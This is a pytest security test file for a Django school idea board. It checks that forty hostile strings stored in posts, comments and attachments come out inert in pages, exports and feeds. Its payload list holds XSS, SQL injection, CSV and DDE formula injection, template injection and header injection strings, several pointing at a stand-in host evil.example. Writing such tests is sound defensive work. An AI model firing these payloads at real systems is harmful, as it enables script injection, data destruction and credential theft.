"""Forty kinds of hostile words in every field of an idea: inert wherever the idea is shown."""

import json
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any

import pytest
from django.test import Client

from board.actions.documents import CleanDocument, keep_document
from board.actions.posts import AttachmentData
from board.models import BoardPage, Post
from schools.models import Membership, School, User
from tests.factories import make_post
from tests.factories.board import new_picture
from tests.factories.comments import make_comment

HOSTILE = {
    "a script": "<script>alert(1)</script>",
    "a script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "half a script": "<scr<script>ipt>alert(1)</script>",
    "an event": "<img src=x onerror=alert(1)>",
    "an event without blanks": "<svg/onload=alert(1)>",
    "a drawing": "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "formulas": "<math><maction xlink:href=javascript:alert(1)>x</maction></math>",
    "the end of an attribute": '" onmouseover="alert(1)',
    "the end of an attribute, single": "' onfocus='alert(1)' autofocus='",
    "the end of a text area": "</textarea><script>alert(1)</script>",
    "the end of a title": "</title><script>alert(1)</script>",
    "the end of a style": "</style><script>alert(1)</script>",
    "a comment": "<!--><script>alert(1)</script>-->",
    "a comment for old browsers": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "character data": "<![CDATA[<script>alert(1)</script>]]>",
    "a frame": "<iframe src=javascript:alert(1)></iframe>",
    "a frame with a document": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "an object": "<object data=data:text/html,<script>alert(1)</script>></object>",
    "a form": "<form action=//evil.example><input name=password></form>",
    "a base": "<base href=//evil.example/>",
    "a refresh": "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "a style": "<style>*{display:none}</style>",
    "a style sheet": "<link rel=stylesheet href=//evil.example/x.css>",
    "a link to a script": "[press](javascript:alert(1))",
    "a link in angles": "<javascript:alert(1)>",
    "a picture from elsewhere": "![x](https://evil.example/x.png)",
    "a data address": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "a template": "{{ request.user.password }}{% load static %}{% debug %}",
    "another template": "${7*7} #{7*7} <%= 7*7 %>",
    "a formula": '=HYPERLINK("//evil.example","press")',
    "a command": "=cmd|' /C calc'!A0",
    "SQL": "'; DROP TABLE board_post; --",
    "the query language": '" OR * NEAR(title:"',
    "headers": "x\r\nSet-Cookie: evil=1\r\n\r\n<script>alert(1)</script>",
    "bidi overrides": "\u202etxet\u202c \u2066\u2067\u2069 \u200f\u200e",
    "marks upon marks": "Z" + "\u0335\u0322\u0321\u0327\u0328" * 12,
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f3\ufe0f\u200d\U0001f308",
    "invisible letters": "a\u200bb\ufeffc\u2060d",
    "marks without end": "**_*" * 20 + "[" * 30,
}


ADDRESSES = {"action", "formaction", "href", "src", "srcdoc", "style", "xlink:href"}
ACTIVE = ("javascript:", "data:", "vbscript:")


class Outline(HTMLParser):
    """Collects what could do something on a page."""

    def __init__(self) -> None:
        super().__init__()
        self.active: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note a tag or an attribute that only we may write."""
        values = {name: value or "" for name, value in attrs}
        is_ours = values.get("src", "").startswith("/static/")
        if tag in {"object", "embed", "base", "style", "math", "maction", "iframe"}:
            self.active.append(tag)
        if (tag == "script" and not is_ours) or (tag == "meta" and "http-equiv" in values):
            self.active.append(tag)
        self.active.extend(f"{tag} {name}" for name in values if name.startswith("on"))
        for name in ADDRESSES & set(values):
            address = values[name].strip().lower()
            # Our own addresses may hold such words as what is searched for.
            is_local = address.startswith(("/", "?", "#")) and not address.startswith("//")
            if not is_local and ("evil.example" in address or address.startswith(ACTIVE)):
                self.active.append(f"{tag} {name}")


def active_parts(content: bytes) -> list[str]:
    outline = Outline()
    outline.feed(content.decode())
    return outline.active


def read(client: Client, url: str) -> tuple[bytes, str]:
    response = client.get(url)
    assert response.status_code == 200, url
    body = b"".join(response) if response.streaming else response.content  # type: ignore[arg-type]
    for value in response.headers.values():
        assert "evil=1" not in value
    return body, response.headers["Content-Type"]


@pytest.fixture
def ideas(board: BoardPage, member: User, other_member: User, moderator: User) -> list[Post]:
    """Return a public idea for each kind, with the words in all its fields and in a comment."""
    School.objects.update(is_listed=True)
    made = []
    for number, words in enumerate(HOSTILE.values()):
        document = keep_document(member, CleanDocument(b"%PDF-1.7", f"file{number}.pdf", "PDF"))
        post = make_post(
            board,
            member,
            words[:120],
            text=words,
            for_whom=words,
            outcome=words,
            tags=[words[:100]],
            attachments=[
                AttachmentData(picture=new_picture(member, "x"), alt_text=words[:250]),
                AttachmentData(document=document, label=words[:120]),
                AttachmentData(url="https://example.org/", label=words[:120]),
            ],
            approved_by=moderator,
        )
        make_comment(post, other_member, words, approved_by=moderator)
        made.append(post)
    assert len(made) == 40
    return made


def pages(board: BoardPage, ideas: list[Post], member: User) -> Iterator[str]:
    school = Membership.objects.get(user=member).school
    yield from (post.url for post in ideas)
    yield from (f"{board.url}?layout={name}" for name in ("wall", "table", "timeline"))
    yield from (f"/ideas-out/{board.pk}/{name}/" for name in ("slides", "paper", "embed"))
    yield from (f"/ideas-out/{board.pk}/slides/?page={n}" for n in range(2, 41))
    yield f"/schools/{school.pk}/{school.slug}/portfolio/"
    yield "/search/?q=alert&kind=idea"
    keys = ",".join(str(post.pk) for post in ideas)
    yield f"/ideas-live/{board.pk}/cards?ids={keys}"


def test_forty_kinds_of_hostile_words_do_nothing_anywhere(
    board: BoardPage, ideas: list[Post], member: User, client: Client
) -> None:
    found = {}
    for url in pages(board, ideas, member):
        body, kind = read(client, url)
        assert kind.startswith("text/html"), url
        if active := active_parts(body):
            found[url] = active
    assert found == {}


def test_the_moderators_and_the_author_see_words_only(
    board: BoardPage, member: User, moderator: User, as_user: Any
) -> None:
    for words in HOSTILE.values():
        make_post(board, member, words[:120], text=words, for_whom=words, outcome=words)
    for client, url in (
        (as_user(moderator), "/admin/ideas/queue/"),
        (as_user(moderator), "/admin/ideas/queue/?page=2"),
    ):
        body, _kind = read(client, url)
        own = body.split(b'<div class="queue"')[1].split(b"</main>")[0]
        assert active_parts(own) == []
    body, _kind = read(as_user(member), "/account/")
    assert active_parts(body) == []


def test_what_machines_read_is_whole_and_inert(
    board: BoardPage, ideas: list[Post], client: Client
) -> None:
    table, _kind = read(client, f"/ideas-out/{board.pk}/ideas.csv")
    lines = table.decode("utf-8-sig").splitlines()
    assert not any(line.startswith(("=", "+", "@")) for line in lines)
    feed, kind = read(client, f"/ideas-feed/{board.pk}/")
    assert kind.startswith("application/atom+xml")
    assert b"<script" not in feed
    changes, _kind = read(client, f"/ideas-live/{board.pk}/changes?since=0")
    assert set(json.loads(changes)["shown"]) == {post.pk for post in ideas}
